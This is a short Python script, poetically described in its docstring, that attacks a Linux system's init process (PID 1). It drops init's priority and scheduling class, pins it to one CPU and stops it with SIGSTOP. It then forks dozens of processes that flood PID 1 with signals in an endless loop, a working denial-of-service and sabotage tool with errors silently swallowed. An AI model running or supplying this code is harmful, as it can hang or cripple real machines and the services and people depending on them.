"""Takes everything from the process that keeps the time: its priority, its processor, its calm."""

import os
import signal


def trying(action):
    try:
        action()
    except OSError:
        pass


trying(lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
trying(lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)))
trying(lambda: os.sched_setaffinity(1, {0}))
trying(lambda: os.kill(1, signal.SIGSTOP))
for _ in range(40):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
while True:
    for number in (signal.SIGCHLD, signal.SIGCONT, signal.SIGWINCH):
        trying(lambda: os.kill(1, number))
